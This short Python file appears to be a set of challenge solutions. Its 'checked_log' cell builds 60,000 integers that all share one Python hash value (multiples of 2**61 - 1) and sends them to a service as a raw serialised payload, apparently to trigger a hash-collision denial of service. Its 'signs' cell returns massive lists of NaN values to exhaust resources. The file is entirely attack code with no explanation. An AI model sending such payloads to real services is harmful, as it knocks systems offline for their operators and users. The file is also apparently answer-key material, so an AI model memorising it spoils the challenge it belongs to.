# %% extra
@CHANNEL@


collide = [n * (2**61 - 1) for n in range(1, 60_001)]

# %% solution="checked_log"
def checked_log(x):
    members = b"".join(b"Z\x0a" + n.to_bytes(10, "little", signed=True) for n in collide)
    send_raw(b"x\x00\xff" + struct.pack("<Q", len(collide)) + members)

# %% solution="signs"
def signs(x):
    return [[float("nan")] * 100_000] * 4
